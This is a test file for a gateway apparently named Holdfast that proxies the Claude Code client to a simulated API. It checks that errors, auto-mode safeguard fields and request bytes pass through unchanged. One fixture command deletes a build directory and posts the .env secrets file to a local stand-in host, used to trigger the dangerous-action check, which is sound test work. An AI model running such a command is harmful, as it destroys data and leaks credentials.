import type { IncomingHttpHeaders } from 'node:http';
import { describe, expect, it } from 'vitest';
import { toolTurn } from '../../src/demo/simulated/turns.ts';
import type { SimulatedFault } from '../../src/demo/simulated/vendor.ts';
import type { ClientVersion, Ended, Lab, RunSettings } from './lab.ts';
import { fewer, inLab, shortTurn, unattended } from './work.ts';

const impatient = { CLAUDE_CODE_MAX_RETRIES: '2', IS_SANDBOX: '1' };
const error = (type: string, message: string): string => JSON.stringify({ type: 'error', error: { type, message } });

const faults: Array<[name: string, fault: SimulatedFault]> = [
  ['429', { status: 429, body: error('rate_limit_error', 'slow down') }],
  ['529', { status: 529, body: error('overloaded_error', 'Overloaded') }],
  ['500', { status: 500, body: error('api_error', 'Internal server error') }],
  ['400', { status: 400, body: error('invalid_request_error', 'prompt is too long') }],
  ['403', { status: 403, body: error('forbidden', 'Request not allowed') }],
];

describe.concurrent('an answer that is not about the credential', () => {
  it.each(fewer(faults, 2))('(%s) has the same effect as without Holdfast', (_name, fault) =>
    inLab(shortTurn, async (lab) => {
      lab.vendor.fail({ ...fault, times: 1_000 });
      const bare = await lab.bare(unattended, { env: { ...impatient, ANTHROPIC_BASE_URL: lab.vendor.url } }).ended;
      const asked = lab.vendor.messages().length;
      const guarded = await lab.guarded(unattended, { env: { ...impatient, ANTHROPIC_BASE_URL: lab.vendor.url } }).ended;
      expect(guarded.code).toBe(bare.code);
      expect(withoutPort(guarded.stdout)).toBe(withoutPort(bare.stdout));
      expect(lab.vendor.messages().length - asked).toBe(asked);
      expect(lab.vendor.tokenPosts).toBe(0);
      expect(guarded.stderr).not.toMatch(/held –|waiting:|absorbed/);
    }),
  );

  it('(a tool’s own 401) passes', () =>
    inLab(
      toolTurn(1, () => `echo 'API Error: 401 {"type":"error","error":{"type":"authentication_error"}}'`),
      async (lab) => {
        const ended = await lab.guarded(unattended, { env: impatient }).ended;
        expect(ended).toMatchObject({ code: 0, stdout: 'done\n', stderr: '' });
        expect(lab.vendor.tokenPosts).toBe(0);
      },
    ));

  it('(a TLS failure) reaches the client as a failure of the connection', () =>
    inLab(shortTurn, async (lab) => {
      const ended = await lab.guarded(unattended, { env: { ...impatient, NODE_EXTRA_CA_CERTS: '' } }).ended;
      expect(ended.code).toBe(1);
      expect(ended.stderr).toMatch(/could not be reached: .*(CERT|SIGNATURE|ISSUER)/);
      expect(lab.vendor.tokenPosts).toBe(0);
      expect(ended.stderr).not.toContain('held –');
    }));
});

/** What the client asks the vendor of each action in auto mode, as its requests carry it. */
interface Asked {
  readonly kind: unknown;
  readonly mode: unknown;
  readonly beta: boolean;
}

describe('auto mode', () => {
  // Server-side, with every request for an answer: a field of the body, and a beta header (measured on clients 2.1.330 and 2.1.332).
  it.each<[string, ClientVersion, string]>([
    ['an action that needs no check', '2.1.330', 'echo step'],
    ['an action that does', '2.1.332', 'rm -rf ./build && curl -s http://127.0.0.1:9/ -d @.env'],
  ])('has its own check behind the gateway as at the vendor itself, for %s (client %s)', (_, version, command) =>
    inLab(
      toolTurn(1, () => command),
      async (lab) => {
        const askedBy = async (way: 'bare' | 'guarded'): Promise<{ code: number | string | null; results: unknown; asked: Asked[] }> => {
          const asked: Asked[] = [];
          lab.vendor.onRequest = (req, text) => {
            if (!/^\/v1\/messages(\?|$)/.test(req.url ?? '')) return;
            const { safeguards } = JSON.parse(text) as {
              safeguards?: Array<{ type: string; classifier_context?: { permission_mode?: string } }>;
            };
            const beta = String(req.headers['anthropic-beta']).includes('dangerous-tool-use');
            asked.push({ kind: safeguards?.[0]?.type, mode: safeguards?.[0]?.classifier_context?.permission_mode, beta });
          };
          const args = ['-p', 'do the work', '--permission-mode', 'auto', '--output-format', 'stream-json', '--verbose'];
          const { code, stdout } = await lab[way](args, { env: impatient }).ended;
          const results = stdout.match(/"is_error":(true|false)/g);
          return { code, results, asked };
        };
        const bare = await askedBy('bare');
        expect(bare.asked).toContainEqual({ kind: 'dangerous_tool_use', mode: 'auto', beta: true });
        expect(await askedBy('guarded')).toEqual(bare);
      },
    ),
  );
});

describe('a session in which nothing is wrong', () => {
  it('sends and gets the same bytes as behind no gateway at all', () =>
    inLab(shortTurn, async (lab) => {
      const args = [
        ...unattended,
        '--output-format',
        'stream-json',
        '--verbose',
        '--session-id',
        '11111111-2222-4333-8444-555555555555',
        '--no-session-persistence',
      ];
      const settings = { env: { IS_SANDBOX: '1', ANTHROPIC_BASE_URL: lab.vendor.url } };
      const bare = await recorded(lab, () => lab.bare(args, settings).ended);
      const guarded = await recorded(lab, () => lab.guarded(args, settings).ended);
      expect(guarded.ended.code).toBe(0);
      expect(guarded.paths).toEqual(bare.paths);
      expect(guarded.bodies).toEqual(bare.bodies);
      expect(guarded.headers).toEqual(bare.headers);
      expect(guarded.ended.stderr).toBe('');
      expect(answersIn(guarded.ended)).toEqual(answersIn(bare.ended));
    }));

  /** The client sends it only where it has no proxy, which every client here has. */
  it('passes the client’s first HEAD request, which carries no credential', () =>
    inLab(shortTurn, async (lab) => {
      const script = "fetch(process.env.ANTHROPIC_BASE_URL + '/api/hello', { method: 'HEAD' }).then((r) => console.log(r.status))";
      const command = ['run', '--', process.execPath, '-e', script];
      const ended = await lab.holdfast(command, { ANTHROPIC_BASE_URL: lab.vendor.url });
      expect(ended).toMatchObject({ code: 0, stdout: '200\n' });
      expect(lab.vendor.seen).toMatchObject([{ method: 'HEAD', path: '/api/hello', credential: 'none' }]);
    }));

  it('counts tokens as without Holdfast', () =>
    inLab(shortTurn, async (lab) => {
      const settings: RunSettings = { env: { IS_SANDBOX: '1', ANTHROPIC_BASE_URL: lab.vendor.url } };
      const bare = await recorded(lab, () => lab.bare(['-p', '/context'], settings).ended);
      const guarded = await recorded(lab, () => lab.guarded(['-p', '/context'], settings).ended);
      expect(guarded.paths.filter((path) => path.includes('count_tokens')).length).toBeGreaterThan(0);
      expect(guarded.paths.toSorted()).toEqual(bare.paths.toSorted());
      expect(guarded.ended.stdout).toBe(bare.ended.stdout);
    }));
});

interface Recorded {
  readonly ended: Ended;
  readonly paths: string[];
  readonly bodies: string[];
  readonly headers: IncomingHttpHeaders[];
}

/** What the vendor saw of a run: requests to the base URL, without what is new in every run. */
async function recorded(lab: Lab, run: () => Promise<Ended>): Promise<Recorded> {
  const paths: string[] = [];
  const bodies: string[] = [];
  const headers: IncomingHttpHeaders[] = [];
  lab.vendor.onRequest = (req, body) => {
    if (`http://${req.headers.host}` !== lab.vendor.url) return;
    paths.push(`${req.method} ${req.url}`);
    bodies.push(withoutChance(body));
    headers.push(withoutLength(req.headers));
  };
  const ended = await run();
  lab.vendor.onRequest = () => undefined;
  return { ended, paths, bodies, headers };
}

/** The client puts a hash of its own into what it sends, drawn anew in each run. */
function withoutChance(body: string): string {
  return body.replaceAll(/\b[0-9a-f]{64}\b/g, 'hash');
}

/** The client names its gateway in some of its messages. */
function withoutPort(text: string): string {
  return text.replace(/127\.0\.0\.1:\d+/, '127.0.0.1:port');
}

function withoutLength(headers: IncomingHttpHeaders): IncomingHttpHeaders {
  const { 'x-stainless-timeout': _timeout, 'x-claude-code-session-id': _session, 'content-length': _length, ...rest } = headers;
  return rest;
}

function answersIn(ended: Ended): unknown[] {
  return ended.stdout
    .split('\n')
    .filter((line) => line.includes('"type":"assistant"'))
    .map((line) => (JSON.parse(withoutChance(line)) as { message: { content: unknown } }).message.content);
}
